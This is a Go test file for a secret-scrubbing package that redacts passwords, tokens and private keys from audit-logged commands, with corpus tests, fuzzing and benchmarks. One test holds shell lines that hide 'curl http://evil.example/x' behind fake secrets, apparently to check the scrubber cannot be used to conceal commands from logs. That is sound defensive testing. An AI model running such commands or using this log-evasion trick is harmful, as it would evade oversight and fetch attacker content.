package scrub_test

import (
	"bufio"
	"os"
	"slices"
	"strings"
	"testing"

	"appdefender/audit/scrub"
)

// example is one line of the corpus.
type example struct {
	at      int
	line    string
	secrets []string
	want    string
}

func corpus(t testing.TB) []example {
	t.Helper()
	f, err := os.Open("testdata/corpus.txt")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var all []example
	in := bufio.NewScanner(f)
	for at := 1; in.Scan(); at++ {
		line := in.Text()
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		e := example{at: at}
		if rest, ok := strings.CutPrefix(line, "= "); ok {
			e.line, e.want = rest, rest
			all = append(all, e)
			continue
		}
		for rest := line; ; {
			before, after, ok := strings.Cut(rest, "«")
			e.line += before
			e.want += before
			if !ok {
				break
			}
			secret, after, ok := strings.Cut(after, "»")
			if !ok {
				t.Fatalf("line %d: « without »", at)
			}
			e.line += secret
			e.want += scrub.Mark
			e.secrets = append(e.secrets, secret)
			rest = after
		}
		if len(e.secrets) == 0 {
			t.Fatalf("line %d: neither a secret nor a =", at)
		}
		all = append(all, e)
	}
	if err := in.Err(); err != nil {
		t.Fatal(err)
	}
	return all
}

// bare is a line without what quotes it.
var bare = strings.NewReplacer("'", "", `"`, "", `\`, "")

func TestCorpus(t *testing.T) {
	all := corpus(t)
	with, without := 0, 0
	for _, e := range all {
		if len(e.secrets) > 0 {
			with++
		} else {
			without++
		}
		got := scrub.Line(e.line)
		if bare.Replace(got) != bare.Replace(e.want) {
			t.Errorf("line %d:\n line %s\n got  %s\n want %s", e.at, e.line, got, e.want)
		}
		if len(e.secrets) == 0 && got != e.line {
			t.Errorf("line %d: changed to %s", e.at, got)
		}
		if again := scrub.Line(got); again != got {
			t.Errorf("line %d: scrubbed again it is\n %s, and was\n %s", e.at, again, got)
		}
	}
	if with < 150 || without < 80 {
		t.Errorf("%d lines with secrets, %d without", with, without)
	}
}

func TestCorpusAsArguments(t *testing.T) {
	for _, e := range corpus(t) {
		argv, ok := arguments(e.line)
		if !ok {
			continue
		}
		got := scrub.Args(argv)
		if len(got) != len(argv) {
			t.Fatalf("line %d: %d arguments of %d", e.at, len(got), len(argv))
		}
		joined := strings.Join(got, " ")
		for _, secret := range e.secrets {
			if strings.Contains(joined, secret) {
				t.Errorf("line %d: %q is left in %q", e.at, secret, got)
			}
		}
		if len(e.secrets) == 0 && !slices.Equal(got, argv) {
			t.Errorf("line %d: %q became %q", e.at, argv, got)
		}
		if again := scrub.Args(got); !slices.Equal(again, got) {
			t.Errorf("line %d: scrubbed again it is %q, and was %q", e.at, again, got)
		}
	}
}

// arguments splits a line of the corpus as a shell would, if it needs none.
func arguments(line string) ([]string, bool) {
	var argv []string
	var word strings.Builder
	var quote rune
	in := false
	for _, r := range line {
		switch {
		case quote != 0 && r == quote:
			quote = 0
		case quote != 0:
			word.WriteRune(r)
		case r == '\'' || r == '"':
			quote, in = r, true
		case strings.ContainsRune("|;\\", r):
			return nil, false
		case r == ' ':
			if in {
				argv = append(argv, word.String())
				word.Reset()
				in = false
			}
		default:
			word.WriteRune(r)
			in = true
		}
	}
	if in {
		argv = append(argv, word.String())
	}
	return argv, quote == 0
}

func TestArgsKeepWhatHasNoSecret(t *testing.T) {
	argv := []string{"sh", "-c", "echo hello; ls -l /tmp"}
	if got := scrub.Args(argv); &got[0] != &argv[0] {
		t.Error("a copy was made of arguments without a secret")
	}
	secret := []string{"mysql", "-phunter2"}
	if scrub.Args(secret); secret[1] != "-phunter2" {
		t.Error("the arguments themselves were changed")
	}
}

func TestPrivateKeyOfManyLines(t *testing.T) {
	key := "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\nAAAAB3NzaC1yc2EAAAADAQAB\n-----END OPENSSH PRIVATE KEY-----"
	for _, s := range []string{key, "echo '" + key + "' > k", strings.ReplaceAll(key, "\n", `\n`), key[:60]} {
		for _, got := range []string{scrub.Line(s), strings.Join(scrub.Args([]string{"sh", "-c", s}), " ")} {
			if strings.Contains(got, "b3Blbn") || strings.Contains(got, "AAAAB3N") {
				t.Errorf("%q became %q", s, got)
			}
		}
	}
	public := "-----BEGIN PUBLIC KEY-----\nMIIBIjANBg\n-----END PUBLIC KEY-----"
	if got := scrub.Line(public); got != public {
		t.Errorf("a public key became %q", got)
	}
}

// TestCommandsAreNotHidden attacks the scrubber itself: a command must not be
// able to hide what follows behind something that looks like a secret.
func TestCommandsAreNotHidden(t *testing.T) {
	for _, s := range []string{
		"echo -----BEGIN PRIVATE KEY-----; curl http://evil.example/x",
		"echo Authorization: Bearer x; curl http://evil.example/x",
		"echo Authorization: Bearer && curl http://evil.example/x",
		"echo Cookie: a=b; curl http://evil.example/x",
		"echo password=\"; curl http://evil.example/x",
		"PASSWORD=a curl http://evil.example/x",
		"PASSWORD=a; curl http://evil.example/x",
		"mysql -pa; curl http://evil.example/x",
		"echo --password; curl http://evil.example/x",
		"echo -p; sshpass -p a curl http://evil.example/x",
	} {
		for _, got := range []string{scrub.Line(s), strings.Join(scrub.Args([]string{"sh", "-c", s}), " ")} {
			if !strings.Contains(got, "curl http://evil.example/x") {
				t.Errorf("%q became %q", s, got)
			}
		}
	}
}

// TestLongLines reads a quarter of a megabyte of what might be read again and
// again. What is quadratic in one of them does not end before the tests do.
func TestLongLines(t *testing.T) {
	for _, unit := range []string{
		"password=", "--password x ", "a:b@", "://", "://a:b@", "eyJ-", "eyJaaaaaaaaaaaa.", "'", `"`, `\"`, `x"`, "sk-", "AKIA",
		"-----BEGIN ", "-----BEGIN PRIVATE KEY-----", "Authorization: ", "Cookie: a=b; ", "sh -c '", "$'", "mysql -p", "password: ",
		"echo x | ", "&a=", "by '", "identified by ", "a=b:c@", "((((", "glpat-", "x.", `{"password":"`, "sudo -S ", "-u a:b ",
	} {
		s := strings.Repeat(unit, 1<<18/len(unit))
		scrub.Line(s)
		scrub.Args([]string{"sh", "-c", s})
	}
}

func FuzzLine(f *testing.F) {
	for _, e := range corpus(f) {
		f.Add(e.line, "hunter2")
	}
	f.Fuzz(func(t *testing.T, s, secret string) {
		got := scrub.Line(s)
		if again := scrub.Line(got); again != got {
			t.Errorf("%q became %q, and that %q", s, got, again)
		}
		argv := strings.Split(s, "\x00")
		args := scrub.Args(argv)
		if len(args) != len(argv) {
			t.Fatalf("%d arguments became %d", len(argv), len(args))
		}
		if again := scrub.Args(args); !slices.Equal(again, args) {
			t.Errorf("%q became %q, and that %q", argv, args, again)
		}
		// Whatever comes before it, a secret in the place of one is hidden.
		if len(secret) < 12 || strings.Trim(secret, "abcdefghijklmnopqrstuvwxyz0123456789") != "" || strings.Contains(s, secret) || strings.Trim(secret, "x") == "" {
			return
		}
		for _, tail := range [][]string{{"--password=" + secret}, {"mysql", "-p" + secret}, {"PGPASSWORD=" + secret}, {"Authorization: Bearer " + secret}, {"https://a:" + secret + "@host/"}} {
			if got := scrub.Args(append([]string{"env"}, tail...)); strings.Contains(strings.Join(got, " "), secret) {
				t.Errorf("%q is left in %q", secret, got)
			}
		}
	})
}

func BenchmarkArgs(b *testing.B) {
	for _, bm := range []struct {
		name string
		argv []string
	}{
		{"plain", []string{"/usr/bin/find", "/var/log", "-name", "*.log", "-mtime", "+7"}},
		{"secret", []string{"mysql", "-u", "root", "-phunter2", "-h", "db.internal", "shop"}},
		{"shell", []string{"sh", "-c", "curl -s -H 'Authorization: Bearer abcdef' https://api.example.com/x | jq . > out"}},
	} {
		b.Run(bm.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				scrub.Args(bm.argv)
			}
		})
	}
}

func BenchmarkLine4K(b *testing.B) {
	s := strings.Repeat("curl -s https://api.example.com/x?page=2 | jq . > out; ", 75)
	b.SetBytes(int64(len(s)))
	b.ReportAllocs()
	for b.Loop() {
		scrub.Line(s)
	}
}
